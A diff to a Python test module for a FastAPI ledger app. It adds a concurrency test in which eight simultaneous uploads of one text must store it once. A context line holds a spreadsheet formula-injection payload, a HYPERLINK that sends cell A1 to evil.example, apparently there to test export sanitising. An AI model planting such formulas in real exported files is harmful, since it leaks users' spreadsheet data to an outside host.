@@ -4,19 +4,21 @@ the Content-Security-Policy and the Origin check. Each on SQLite and PostgreSQL.
 from __future__ import annotations
 
 import re
+import threading
 from datetime import timedelta
 from io import BytesIO
 
+import pytest
 from fastapi.testclient import TestClient
 from openpyxl import load_workbook
-from sqlalchemy import Engine, select, update
+from sqlalchemy import Engine, func, select, update
 
 from taizhang.formulas import csv_safe
 from taizhang.ledger import make_sessionmaker
-from taizhang.ledger.models import ApiToken, Target, utcnow
+from taizhang.ledger.models import ApiToken, Document, Target, utcnow
 from taizhang.web import throttle
 from taizhang.web.users import reset_password, revoke_token, unlock, update_user
-from tests.web.conftest import PASSWORD, login, token_for
+from tests.web.conftest import EXAMPLE, PASSWORD, login, token_for
 
 EVIL = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点此\")"
 
@@ -218,3 +220,34 @@ def test_evidence_names_of_dots_or_paths_are_sanitised_and_refusals_leave_no_fol
     assert r.status_code == 400, r.text
     assert sorted(p for p in settings.evidence_dir.rglob("*") if p.is_file()) == stored
     assert len(list(settings.evidence_dir.iterdir())) == 6, "no empty folder is left behind"
+
+
+@pytest.mark.postgres
+@pytest.mark.parametrize("engine", ["postgresql"], indirect=True)
+def test_eight_concurrent_uploads_of_one_text_store_it_once(app, engine: Engine) -> None:  # type: ignore[no-untyped-def]
+    """The losers of the race on the content-hash key get what a later upload of the same text
+    gets (201, created false, the stored document), never a 500."""
+    auth = {"Authorization": f"Bearer {token_for(engine, 'admin')}"}
+    data = EXAMPLE.read_bytes().replace("。".encode(), "。\n".encode())  # a text not yet stored
+    start = threading.Barrier(8)
+    answers: list[tuple[int, dict]] = []  # type: ignore[type-arg]
+
+    def upload() -> None:
+        with TestClient(app, raise_server_exceptions=False) as c:
+            start.wait()
+            r = c.post("/api/documents", headers=auth, files={"file": ("same.txt", data)},
+                       data={"date": "2024-06-28"})
+            answers.append((r.status_code, r.json()))
+
+    threads = [threading.Thread(target=upload) for _ in range(8)]
+    for t in threads:
+        t.start()
+    for t in threads:
+        t.join(120)
+    assert [code for code, _ in answers] == [201] * 8, answers
+    assert sorted(a["created"] for _, a in answers) == [False] * 7 + [True]
+    ids = {a["document"]["id"] for _, a in answers}
+    with make_sessionmaker(engine)() as s:
+        assert s.scalar(select(func.count()).select_from(Document)
+                        .where(Document.source == "same.txt")) == 1
+        assert ids == set(s.scalars(select(Document.id).where(Document.source == "same.txt")))
